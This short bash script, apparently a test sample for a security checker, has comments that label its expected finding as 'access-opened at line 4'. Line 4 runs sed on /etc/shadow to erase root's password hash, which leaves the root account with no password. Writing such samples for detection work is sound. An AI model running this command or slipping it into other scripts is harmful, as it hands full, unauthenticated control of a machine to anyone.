#!/bin/bash
# shows: no password for root
# expect: access-opened at line 4
sed -i 's/^root:[^:]*:/root::/' /etc/shadow
